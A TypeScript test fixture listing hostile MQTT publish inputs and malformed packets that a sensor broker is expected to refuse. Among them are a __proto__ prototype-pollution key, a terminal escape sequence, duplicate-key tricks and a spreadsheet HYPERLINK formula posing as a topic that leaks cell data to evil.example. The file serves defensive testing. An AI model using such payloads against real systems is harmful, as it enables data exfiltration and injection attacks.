/**
 * Publish-level hostile inputs from an authenticated device (`mallory`, issue 8): each is refused with a
 * reason, and leaves the three traces of ARCHITECTURE §4 — the counter by exactly one, an error reply and
 * a dead-letter row standing for it (a row's `repeats` counts it when it falls in an open trace window).
 * None of them closes the connection; the protocol violations that must are in `closingInputs`.
 */
import { MALLORY, VALID } from './rig.js';

export interface PublishInput {
  name: string;
  topic: string;
  payload: (now: number) => string | Buffer;
  reason: string;
  /** The refusal's detail, naming the field (or the payload, topic or limit) and why. */
  detail: RegExp;
}

const OWN = `omo/shelf/${MALLORY}`;
const weight = (ts: number, lanes: string) => `{"ts":${ts},"lanes":${lanes}}`;
const input = (
  ...[name, topic, payload, reason, detail]: [string, string, PublishInput['payload'], string, RegExp]
) => ({
  name,
  topic,
  payload,
  reason,
  detail,
});

export const publishInputs: PublishInput[] = [
  input(
    'truncated JSON',
    `${OWN}/weight`,
    (t) => `{"ts":${t},"lanes":[{"lane":1`,
    'bad_json',
    /^payload is not valid JSON: unexpected end/,
  ),
  input(
    'binary to a JSON stream',
    `${OWN}/weight`,
    () => Buffer.from([0x7b, 0xff, 0xfe, 0x00]),
    'bad_json',
    /^payload is not UTF-8/,
  ),
  input('an empty payload', `${OWN}/temp`, () => '', 'bad_json', /^payload is empty/),
  input('a NaN literal', `${OWN}/weight`, (t) => weight(t, '[{"lane":1,"grams":NaN}]'), 'bad_json', /unexpected 'N'/),
  input(
    'nesting deeper than a parser survives',
    `${OWN}/weight`,
    (t) => `{"ts":${t},"lanes":${'['.repeat(3000)}`,
    'bad_json',
    /unclosed array/,
  ),
  input(
    'a number too large for a double',
    `${OWN}/weight`,
    (t) => weight(t, '[{"lane":1,"grams":1e400}]'),
    'not_finite',
    /^lanes\[0\]\.grams must be a finite number/,
  ),
  input(
    'the string "NaN"',
    `${OWN}/temp`,
    (t) => `{"ts":${t},"celsius":"NaN"}`,
    'not_finite',
    /^celsius must be a finite number/,
  ),
  input(
    'a wrong type',
    `${OWN}/weight`,
    (t) => weight(t, '[{"lane":1,"grams":"12"}]'),
    'schema',
    /^lanes\[0\]\.grams must be a number/,
  ),
  input(
    'an unknown field',
    `${OWN}/temp`,
    (t) => `{"ts":${t},"celsius":4,"admin":true}`,
    'schema',
    /^admin is not a known field/,
  ),
  input('a missing field', `${OWN}/weight`, (t) => `{"ts":${t}}`, 'schema', /^lanes is required/),
  input(
    'a prototype key',
    `${OWN}/temp`,
    (t) => `{"ts":${t},"celsius":4,"__proto__":{"x":1}}`,
    'schema',
    /^__proto__ is not a known field/,
  ),
  input(
    'a duplicate ts',
    `${OWN}/weight`,
    (t) => `{"ts":${t},"ts":${t - 1},"lanes":[]}`,
    'duplicate_key',
    /^key "ts" appears twice in the payload object$/,
  ),
  input(
    'invalid lanes, then valid lanes',
    `${OWN}/weight`,
    (t) => `{"ts":${t},"lanes":[{"lane":1,"grams":-1e9}],"lanes":[{"lane":1,"grams":5}]}`,
    'duplicate_key',
    /^key "lanes" appears twice/,
  ),
  input(
    'a duplicate key behind an escape',
    `${OWN}/temp`,
    (t) => `{"ts":${t},"celsius":4,"cel\\u0073ius":5}`,
    'duplicate_key',
    /^key "celsius" appears twice/,
  ),
  input(
    'a NUL in the firmware string',
    `${OWN}/status`,
    (t) => `{"status":"online","ts":${t},"firmware":"2.4\\u0000"}`,
    'control_char',
    /^firmware must not hold control characters, got U\+0000/,
  ),
  input(
    'a terminal escape in the firmware string',
    `${OWN}/status`,
    (t) => `{"status":"online","ts":${t},"firmware":"\\u001b[2J"}`,
    'control_char',
    /^firmware must not hold control characters, got U\+001B/,
  ),
  input(
    'a reading dated 2001',
    `${OWN}/temp`,
    () => `{"ts":${Date.UTC(2001, 0, 1)},"celsius":4}`,
    'too_old',
    /behind the gateway clock \(max_past_s 3600\)$/,
  ),
  input(
    'a reading an hour ahead',
    `${OWN}/temp`,
    (t) => `{"ts":${t + 3_600_000},"celsius":4}`,
    'too_new',
    /ahead of the gateway clock \(max_future_s 30\)$/,
  ),
  input(
    'a reading behind its own watermark',
    `${OWN}/temp`,
    (t) => `{"ts":${t - 60_000},"celsius":4}`,
    'late',
    /behind the newest reading of this device \(watermark_s 5\)$/,
  ),
  input(
    'a payload over max_json_bytes',
    `${OWN}/weight`,
    (t) => `{"ts":${t},"pad":"${'x'.repeat(5000)}"}`,
    'oversize',
    /more than max_json_bytes 4096$/,
  ),
  input(
    "the valid device's topic",
    `omo/shelf/${VALID}/weight`,
    (t) => weight(t, '[{"lane":1,"grams":1}]'),
    'acl',
    /is not one of this device's topics/,
  ),
  input(
    "a camera's stream on its own prefix",
    `${OWN}/tracks`,
    (t) => `{"ts":${t}}`,
    'acl',
    /^stream "tracks" is not one a shelf publishes/,
  ),
  input('a $SYS topic', '$SYS/broker/clients', () => 'x', 'acl', /is not one of this device's topics/),
  input(
    'a formula as a topic',
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    () => 'x',
    'acl',
    /is not one of this device's topics/,
  ),
  input(
    'a topic 20 levels deep',
    `${OWN}/${Array.from({ length: 17 }, (_, i) => `l${i}`).join('/')}`,
    () => 'x',
    'topic_levels',
    /more than 8 levels/,
  ),
];

export interface ClosingInput {
  name: string;
  /** Raw bytes after a successful CONNECT. */
  bytes: Buffer;
  /** The counter that grows by exactly one. */
  metric: [name: string, labels: Record<string, string>];
  /** Whether the refusal is a dead-letter row of mallory's (an authenticated device's oversize is). */
  row: string | undefined;
}

const fixedHeader = (type: number, length: number): Buffer => {
  const bytes = [type];
  let rest = length;
  do {
    let byte = rest % 128;
    rest = Math.floor(rest / 128);
    if (rest > 0) byte |= 0x80;
    bytes.push(byte);
  } while (rest > 0);
  return Buffer.from(bytes);
};

const publish = (topic: string, payload: Buffer, flags = 0): Buffer => {
  const name = Buffer.from(topic);
  const body = Buffer.concat([Buffer.from([name.length >> 8, name.length & 0xff]), name, payload]);
  return Buffer.concat([fixedHeader(0x30 | flags, body.length), body]);
};

/** Protocol violations MQTT 3.1.1 answers by closing the connection; the README names them. */
export const closingInputs: ClosingInput[] = [
  {
    name: 'a PUBLISH over max_packet_bytes [MQTT-2.2.3]',
    bytes: publish(`${OWN}/weight`, Buffer.alloc(70_000, 0x20)),
    metric: ['omo_broker_refused_total', { reason: 'oversize' }],
    row: 'oversize',
  },
  {
    name: 'a PUBLISH with a wildcard in its topic [MQTT-3.3.2-2]',
    bytes: publish(`${OWN}/#`, Buffer.from('{}')),
    metric: ['omo_broker_client_errors_total', { reason: 'protocol' }],
    row: undefined,
  },
  {
    name: 'a PUBLISH with QoS 3 [MQTT-3.3.1-4]',
    bytes: publish(`${OWN}/weight`, Buffer.from('{}'), 0x06),
    metric: ['omo_broker_client_errors_total', { reason: 'protocol' }],
    row: undefined,
  },
  {
    name: 'a remaining length of five bytes [MQTT-2.2.3]',
    bytes: Buffer.from([0x30, 0xff, 0xff, 0xff, 0xff, 0x01]),
    metric: ['omo_broker_client_errors_total', { reason: 'protocol' }],
    row: undefined,
  },
];
